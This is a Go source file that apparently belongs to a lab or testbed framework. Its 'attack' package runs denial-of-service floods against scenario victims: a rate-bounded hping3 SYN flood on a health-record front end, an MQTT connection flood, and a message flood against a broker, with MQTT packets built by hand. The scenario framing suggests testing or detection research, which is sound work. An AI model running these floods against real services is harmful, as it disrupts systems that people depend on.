package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"regexp"
	"strconv"
	"strings"
	"time"
)

const (
	// synPerSecond, connectsPerSecond and publishPerSecond bound the floods.
	synPerSecond      = 1000
	connectsPerSecond = 200
	publishPerSecond  = 2000
)

var hpingSent = regexp.MustCompile(`(\d+) packets transmitted, (\d+) packets received`)

// floodTCP sends SYNs to the health record's front end, many a second, and
// completes no connection.
func floodTCP(ctx context.Context, s *stage) error {
	victim := s.scenario.Victims[0]
	return s.step(ctx, "SYN flood", []Selector{s.to(victim, "tcp", 80)}, func(ctx context.Context) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, s.duration+5*time.Second)
		defer cancel()
		out, err := s.tool(ctx, "hping3", "-q", "-n", "-S", "-I", "eth0", "-p", "80", "-i", fmt.Sprintf("u%d", 1_000_000/synPerSecond),
			"-c", strconv.Itoa(synPerSecond*s.seconds()), ipOf(victim))
		m := hpingSent.FindStringSubmatch(out)
		if m == nil {
			return "", errors.Join(err, errors.New(lastLine(out)))
		}
		detail := fmt.Sprintf("%s SYNs, %s answers", m[1], m[2])
		if m[2] == "0" {
			return detail, errors.New("nothing was answered")
		}
		return detail, nil
	})
}

// floodMQTT opens connections to the broker as fast as it takes them, then has
// one client publish as fast as it can.
func floodMQTT(ctx context.Context, s *stage) error {
	victim, sel := ipOf("broker"), s.to("broker", "tcp", 1883)
	err := s.step(ctx, "flood of connections", []Selector{sel}, func(ctx context.Context) (string, error) {
		return s.connectFlood(ctx, victim+":1883")
	})
	if err != nil {
		return err
	}
	return s.step(ctx, "flood of messages", []Selector{sel}, func(ctx context.Context) (string, error) {
		ctx, cancel := context.WithTimeout(ctx, s.duration+5*time.Second)
		defer cancel()
		n := publishPerSecond * max(1, s.seconds()/2)
		lines := strings.Repeat(strings.Repeat("flood ", 40)+"\n", n)
		_, err := s.toolAt(ctx, s.home, lines, "mosquitto_pub", "-h", victim, "-i", "flood", "-q", "0", "-t", "home/flood", "-l")
		return fmt.Sprintf("%d messages", n), err
	})
}

// connectFlood opens connections at the bounded rate for half of the duration,
// and keeps them open until its end.
func (s *stage) connectFlood(ctx context.Context, address string) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, max(s.duration/2, time.Second))
	defer cancel()
	tick := time.NewTicker(time.Second / connectsPerSecond)
	defer tick.Stop()
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	const mostOpen = 500 // of a small machine's descriptors
	tried, accepted := 0, 0
	var last error
	for n := 0; ; n++ {
		select {
		case <-ctx.Done():
			if accepted == 0 {
				return fmt.Sprintf("%d connections tried", tried), errors.Join(errors.New("none was accepted"), last)
			}
			return fmt.Sprintf("%d connections accepted", accepted), nil
		case <-tick.C:
		}
		tried++
		c, err := s.mqttConnect(ctx, address, fmt.Sprintf("flood-%d", n))
		if err != nil {
			last = err
			continue
		}
		accepted++
		if open = append(open, c); len(open) > mostOpen {
			open[0].Close()
			open = open[1:]
		}
	}
}

// mqttConnect opens one session (MQTT 3.1.1 §3.1, §3.2) and publishes once.
func (s *stage) mqttConnect(ctx context.Context, address, client string) (net.Conn, error) {
	dial, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	c, err := s.at.Dial(dial, "tcp", address)
	if err != nil {
		return nil, err
	}
	text := func(b []byte, s string) []byte {
		return append(binary.BigEndian.AppendUint16(b, uint16(len(s))), s...)
	}
	packet := func(kind byte, body []byte) []byte { return append([]byte{kind, byte(len(body))}, body...) }
	connect := append(text(nil, "MQTT"), 4, 2, 0, 60) // level, clean session, keep alive
	publish := append(text(nil, "home/"+client), "flood"...)
	answer := make([]byte, 4)
	err = errors.Join(c.SetDeadline(time.Now().Add(2*time.Second)), write(c, packet(0x10, text(connect, client)), packet(0x30, publish)))
	if err == nil {
		_, err = io.ReadFull(c, answer)
	}
	if err == nil && answer[3] != 0 {
		err = fmt.Errorf("refused: %d", answer[3])
	}
	if err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

func write(w io.Writer, pieces ...[]byte) error {
	for _, p := range pieces {
		if _, err := w.Write(p); err != nil {
			return err
		}
	}
	return nil
}
